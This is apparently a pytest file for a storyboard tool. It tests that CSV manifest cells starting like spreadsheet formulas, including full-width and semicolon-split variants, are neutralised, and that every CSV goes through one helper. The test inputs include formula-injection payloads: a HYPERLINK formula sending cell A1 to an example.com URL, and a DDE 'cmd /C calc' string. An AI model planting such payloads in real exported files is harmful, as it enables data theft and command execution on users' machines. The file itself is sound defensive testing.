"""``out/season/manifest.csv`` opened in a spreadsheet: a title or hook that starts like a formula
is text there (a leading ``'``), while ``manifest.json`` keeps every value exact; and every CSV
storyboard writes is made by the one helper that does this (``errors.csv_text``)."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest

from storyboard.errors import FORMULA_STARTS, csv_text, spreadsheet_cell
from storyboard.review.season import COLUMNS, Row, manifest_csv, manifest_json

PACKAGE = Path(__file__).resolve().parents[2] / "storyboard"


def row(title: str, hook: str, cost: float = 0.25) -> Row:
    return Row(1, "ep01", title, 4.0, "ep01.mp4", "ep01.jpg", "frame at 3.000 s", "ep01.srt",
               hook, cost, "USD")


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"],
                         ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_cell_that_starts_like_a_formula_is_text_in_the_csv_and_exact_in_the_json(
        start: str) -> None:
    title = f'{start}HYPERLINK("https://example.com/x?"&A1,"Episode 1")'
    hook = f"{start}cmd|' /C calc'!A0"
    rows = [row(title, hook)]
    [written] = table(manifest_csv(rows))
    assert written["title"] == "'" + title
    assert written["hook"] == "'" + hook
    assert (written["seconds"], written["cost"], written["episode"]) == ("4", "0.25", "1")
    [exact] = json.loads(manifest_json(rows))["episodes"]
    assert (exact["title"], exact["hook"]) == (title, hook)


def test_other_text_and_every_number_are_written_as_they_are() -> None:
    rows = [row("The Call = trouble", "Who is this? -1 +2 @mia", cost=1.5),
            row("'quoted already", "50% off, \"now\"")]
    written = table(manifest_csv(rows))
    assert [(w["title"], w["hook"], w["cost"]) for w in written] == [
        ("The Call = trouble", "Who is this? -1 +2 @mia", "1.5"),
        ("'quoted already", "50% off, \"now\"", "0.25")]
    assert manifest_csv(rows).splitlines()[0] == ",".join(COLUMNS)


def test_the_helper_neutralises_exactly_the_formula_starts() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert [spreadsheet_cell(s + "1") for s in FORMULA_STARTS] == [
        "'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]
    assert spreadsheet_cell("") == "" and spreadsheet_cell(" =1") == " =1"
    assert csv_text(("a", "b"), [(-1.25, "-1.25"), (3, "x")]) == "a,b\n-1.25,'-1.25\n3,x\n"
    # a cell with a line break of either kind is quoted: the row stays one row
    assert csv_text(("a", "b"), [("x\ry", 'say "hi", then\ngo')]) == \
        'a,b\n"x\ry","say ""hi"", then\ngo"\n'


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff0bcmd", "'\uff0bcmd"),  # full width
    ("\uff0d2+3", "'\uff0d2+3"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    ("\ufe66cmd", "'\ufe66cmd"), ("\ufe62cmd", "'\ufe62cmd"),  # small forms: read as = and +
    ("x;=4+4", "x;'=4+4"), ("x;\uff1d4+4", "x;'\uff1d4+4"), (";@A1", ";'@A1"),  # ;-split
    ("a;b;-1", "a;b;'-1"), ("=a;=b", "'=a;'=b"), ("x;\t1", "x;'\t1"),
    ("a;b", "a;b"), ("x; =1", "x; =1"), ("Who? \u22121", "Who? \u22121"),  # as written
    ("\u2212" + "1", "\u2212" + "1"), ("a=b", "a=b"), ("", ""), (";", ";")])
def test_a_cell_any_spreadsheet_could_run_is_text(text: str, cell: str) -> None:
    """Issue 95: a full-width ``＝`` (and ``＋ － ＠``) and a cell a ``;``-separated spreadsheet
    splits (``x;=4+4``) passed the guard; the minus sign ``−`` and a space first never ran."""
    assert spreadsheet_cell(text) == cell
    written = csv_text(("cell",), [(text,)]).split("\n")[1]
    for field in written.split(";"):  # as a spreadsheet of a comma-decimal locale splits it
        assert not field.startswith(("=", "+", "-", "@", "\t", "\uff1d", "\ufe66", "\ufe62"))


def test_every_csv_is_written_by_the_one_helper() -> None:
    """No module imports ``csv``: a CSV is written by ``errors.csv_text`` (a new writer too), so
    its cells are neutralised and a carriage return in one is quoted."""
    importers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import) else
                     [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if "csv" in names:
                importers.append(path.relative_to(PACKAGE).as_posix())
    assert importers == []
